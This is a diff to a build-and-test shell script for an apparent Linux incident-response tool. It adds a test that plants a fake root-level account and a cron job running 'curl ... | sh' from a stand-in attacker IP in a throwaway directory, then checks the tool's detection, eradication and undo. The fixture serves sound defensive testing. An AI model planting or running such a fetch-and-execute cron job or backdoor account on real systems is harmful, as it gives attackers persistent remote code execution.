@@ -10,9 +10,11 @@ cd "$(dirname "$0")/.."
 # Debian packages the tests use: coreutils (mkfifo, sleep) for the hostile-input and live-process
 # tests, file for the static-build check, systemd-journal-remote and rpm to write real journal
 # files and RPM databases for the parsers' tests; zstd, tar, openssl and age so that the evidence
-# tests check bundles with the standard tools another examiner would use. Later issues add
-# nftables, iproute2, yara, postgresql, chromium here.
-APT_PACKAGES=(coreutils file systemd-journal-remote rpm zstd tar openssl age)
+# tests check bundles with the standard tools another examiner would use; nftables and
+# iproute2 for the network-containment test (in namespaces it creates), util-linux for
+# unshare/setpriv/script (live account lock in a mount namespace, prompts on a terminal).
+# Later issues add yara, postgresql, chromium here.
+APT_PACKAGES=(coreutils file systemd-journal-remote rpm zstd tar openssl age nftables iproute2 util-linux)
 
 install_packages() {
   local missing=()
@@ -101,6 +103,23 @@ JSONL
   set -e
   if [ "$code" -ne 1 ] || ! grep -q windows.logs.cleared "$bundle_dir/hunt.json"; then
     echo "static build check FAILED: hunt exit $code" >&2
+    exit 1
+  fi
+  # Response actions on a throwaway root: eradicate what triage found, then undo it all.
+  respond_root=$(mktemp -d)
+  trap 'rm -rf "$fixture" "$report" "$bundle_dir" "$respond_root"' EXIT
+  mkdir -p "$respond_root/etc/cron.d"
+  printf 'root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n' > "$respond_root/etc/passwd"
+  printf '*/5 * * * * root curl -fsSL http://203.0.113.9/x | sh\n' > "$respond_root/etc/cron.d/sync"
+  sum_before=$(cd "$respond_root" && find . -type f -exec sha256sum {} + | sort)
+  "$bin" triage --root "$respond_root" --format json -o "$bundle_dir/r.json" || true
+  ids=$(grep -o '"id": *"linux\.\(accounts\.uid0\|persistence\.cron\):[0-9a-f]*"' "$bundle_dir/r.json" | sed 's/.*"\(linux[^"]*\)"/\1/')
+  # shellcheck disable=SC2086
+  if ! "$bin" eradicate --from "$bundle_dir/r.json" $ids --root "$respond_root" --state-dir "$bundle_dir/state" --yes >/dev/null \
+    || grep -q toor "$respond_root/etc/passwd" \
+    || ! "$bin" undo --all --root "$respond_root" --state-dir "$bundle_dir/state" >/dev/null \
+    || [ "$sum_before" != "$(cd "$respond_root" && find . -type f -exec sha256sum {} + | sort)" ]; then
+    echo "static build check FAILED: eradicate/undo" >&2
     exit 1
   fi
   echo "static build: ok ($(file -b "$bin" | cut -d, -f1-2))"
